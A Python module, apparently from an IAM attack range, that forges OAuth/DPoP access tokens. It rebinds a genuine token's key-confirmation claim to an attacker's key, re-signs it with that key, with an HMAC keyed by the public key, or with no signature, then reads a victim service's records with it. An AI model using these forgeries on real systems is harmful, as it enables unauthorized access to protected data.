"""Access tokens of our own as an attacker makes them: bound to its own key, by nobody's leave."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
from typing import TYPE_CHECKING, Any

from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from jwskate import Jwk

from scenarios import oauth

if TYPE_CHECKING:
    from collections.abc import Mapping

    from iamrange.core.scenario import Taken

_COORDINATE = 32


def _encode(value: bytes) -> str:
    return base64.urlsafe_b64encode(value).rstrip(b"=").decode()


def _decode(part: str) -> dict[str, Any]:
    padded = part + "=" * (-len(part) % 4)
    value: dict[str, Any] = json.loads(base64.urlsafe_b64decode(padded))
    return value


def rebound(genuine: str, key: Mapping[str, Any], **changes: Any) -> tuple[dict[str, Any], str]:  # noqa: ANN401 - any JSON value
    """Return the header, and the claims made out to the holder of the key, still unsigned."""
    header, claims, _ = genuine.split(".")
    thumbprint = Jwk(dict(key)).thumbprint()
    forged = {**_decode(claims), "cnf": {"jkt": thumbprint}, **changes}
    return _decode(header), _encode(json.dumps(forged).encode())


def signed(header: Mapping[str, Any], claims: str, key: Mapping[str, Any]) -> str:
    """Sign with a private EC JWK of the attacker's."""
    unsigned = f"{_encode(json.dumps(dict(header)).encode())}.{claims}"
    private = Jwk(dict(key)).cryptography_key
    r, s = decode_dss_signature(private.sign(unsigned.encode(), ec.ECDSA(hashes.SHA256())))
    return f"{unsigned}.{_encode(r.to_bytes(_COORDINATE, 'big') + s.to_bytes(_COORDINATE, 'big'))}"


def keyed(header: Mapping[str, Any], claims: str, secret: bytes) -> str:
    """Authenticate with a secret that everybody knows: the public key."""
    unsigned = f"{_encode(json.dumps(dict(header)).encode())}.{claims}"
    return f"{unsigned}.{_encode(hmac.digest(secret, unsigned.encode(), hashlib.sha256))}"


def unsigned(header: Mapping[str, Any], claims: str) -> str:
    """Sign with nothing."""
    return f"{_encode(json.dumps(dict(header)).encode())}.{claims}."


def use(token: str, key: Mapping[str, Any], foothold: Taken) -> str:
    """Read the victim's service with a forged token and faultless proofs by its key."""
    url = foothold.knows["victim.service"] + oauth.RECORD
    return oauth.read_record(url, auth=oauth.dpop_token(token, key))
